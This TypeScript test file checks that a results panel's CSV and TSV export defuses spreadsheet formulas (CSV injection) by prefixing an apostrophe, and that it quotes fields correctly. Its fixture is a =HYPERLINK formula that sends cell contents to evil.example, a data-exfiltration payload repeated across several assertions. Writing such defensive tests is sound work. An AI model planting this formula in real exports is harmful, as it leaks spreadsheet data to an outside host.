// CSV and TSV cells: text a spreadsheet would run as a formula (OWASP's CSV injection) is made
// inert with a leading apostrophe; numbers, JSON and the raw setting are left alone.
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import {
    delimitedField,
    neutraliseFormula,
    quoteField,
    singleField,
} from "../../src/shared/json/delimited";
import { parseLossless } from "../../src/shared/json/lossless";
import { exportSlices } from "../../src/resultsPanel/exportFormats";
import { exportToFile } from "../../src/resultsPanel/exportWriter";
import { resultFromText } from "../../src/resultsPanel/resultSet";

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';

async function text(slices: AsyncIterable<string>): Promise<string> {
    let out = "";
    for await (const s of slices) out += s;
    return out;
}

async function* once<T>(value: T): AsyncGenerator<T> {
    yield value;
}

describe("CSV and TSV cells", () => {
    it("puts an apostrophe before text starting with =, +, -, @, tab or CR, and nothing else", () => {
        for (const start of ["=", "+", "-", "@", "\t", "\r"])
            assert.equal(neutraliseFormula(`${start}1+2`), `'${start}1+2`, JSON.stringify(start));
        for (const safe of ["a=1", " =1", "1-2", "", "'=1", '{"a":1}', "\n=1", "%=1"])
            assert.equal(neutraliseFormula(safe), safe, JSON.stringify(safe));
    });

    it("quotes a field holding the separator, a quote, CR or LF, doubling its quotes", () => {
        assert.equal(quoteField("a,b", ","), '"a,b"');
        assert.equal(quoteField("a,b", "\t"), "a,b");
        assert.equal(quoteField("a\tb", "\t"), '"a\tb"');
        assert.equal(quoteField('say "hi"', ","), '"say ""hi"""');
        assert.equal(quoteField("a\nb", "\t"), '"a\nb"');
        assert.equal(quoteField("plain", ","), "plain");
    });

    it("neutralises text cells and quotes them as CSV requires", () => {
        assert.equal(
            delimitedField(HYPERLINK, ",", true),
            `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`,
        );
        assert.equal(delimitedField("@SUM(A1)", ",", true), "'@SUM(A1)");
        assert.equal(delimitedField("-5", ",", true), "'-5", "a text cell, even a numeric one");
        assert.equal(delimitedField("+3", "\t", true), "'+3");
        // Tab and CR: the field then holds the separator or a line break, so it is quoted too.
        assert.equal(delimitedField("\t=1+1", "\t", true), '"\'\t=1+1"');
        assert.equal(delimitedField("\r=1+1", ",", true), '"\'\r=1+1"');
    });

    it("quotes a CSV text cell holding ';' or a tab, where a spreadsheet may split it", () => {
        assert.equal(delimitedField("x;=1+1", ",", true), '"x;=1+1"');
        assert.equal(delimitedField("x\t=1+1", ",", true), '"x\t=1+1"');
        assert.equal(delimitedField("x;=1+1", ",", false), "x;=1+1", "raw: as before");
        assert.equal(delimitedField("x;y", "\t", true), "x;y", "TSV splits on tabs only");
    });

    it("leaves numbers, wide numbers, booleans, nulls and JSON as they are", () => {
        const [wide, negative] = parseLossless(
            "[-9223372036854775808,-1.00000000000000000001]",
        ) as [unknown, unknown];
        const cases: [unknown, string][] = [
            [-5, "-5"],
            [3, "3"],
            [-0.5, "-0.5"],
            [wide, "-9223372036854775808"],
            [negative, "-1.00000000000000000001"],
            [true, "true"],
            [null, ""],
            [undefined, ""],
            [["-1", "=2"], '"[""-1"",""=2""]"'],
            [{ k: "=1" }, '"{""k"":""=1""}"'],
        ];
        for (const [value, want] of cases) assert.equal(delimitedField(value, ",", true), want);
    });

    it("writes text as it is when neutralising is off (raw exports)", () => {
        assert.equal(
            delimitedField(HYPERLINK, ",", false),
            `"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`,
        );
        assert.equal(delimitedField("-5", ",", false), "-5");
        assert.equal(delimitedField("\t=1", "\t", false), '"\t=1"');
    });

    it("a single copied value: neutralised but not quoted", () => {
        assert.equal(singleField(HYPERLINK, true), `'${HYPERLINK}`);
        assert.equal(singleField(HYPERLINK, false), HYPERLINK);
        assert.equal(singleField(-5, true), "-5");
        assert.equal(singleField('a "b", c', true), 'a "b", c');
    });
});

describe("CSV exports neutralise formulas", () => {
    const response = JSON.stringify({
        columns: ["=url", "n", "s"],
        results: [
            [HYPERLINK, -5, "-5"],
            ["@cmd", 3, "plain"],
        ],
    });

    it("in text cells and column names; numbers as they are; JSON and NDJSON unchanged", async () => {
        const rows = JSON.parse(response).results as unknown[][];
        const columns = ["=url", "n", "s"];
        assert.equal(
            await text(exportSlices(columns, once(rows), "csv")),
            "'=url,n,s\r\n" +
                `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,'-5\r\n` +
                "'@cmd,3,plain\r\n",
        );
        assert.equal(
            await text(exportSlices(columns, once(rows), "ndjson")),
            `{"=url":${JSON.stringify(HYPERLINK)},"n":-5,"s":"-5"}\n` +
                '{"=url":"@cmd","n":3,"s":"plain"}\n',
        );
        const json = await text(exportSlices(columns, once(rows), "json"));
        assert.deepEqual(JSON.parse(json), [
            { "=url": HYPERLINK, n: -5, s: "-5" },
            { "=url": "@cmd", n: 3, s: "plain" },
        ]);
    });

    it("in the file an export writes, unless the setting turned it off", async () => {
        const set = await resultFromText(response, {
            title: "t",
            queryText: "SELECT url",
            durationMs: 1,
        });
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "csv-"));
        try {
            const safe = path.join(dir, "safe.csv");
            assert.equal(await exportToFile(set, "csv", safe), true);
            assert.match(fs.readFileSync(safe, "utf8"), /^'=url,n,s\r\n"'=HYPERLINK\(/);
            const raw = path.join(dir, "raw.csv");
            assert.equal(await exportToFile(set, "csv", raw, { neutraliseFormulas: false }), true);
            assert.equal(
                fs.readFileSync(raw, "utf8"),
                "=url,n,s\r\n" +
                    `"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,-5\r\n` +
                    "@cmd,3,plain\r\n",
            );
        } finally {
            fs.rmSync(dir, { recursive: true, force: true });
        }
    });
});
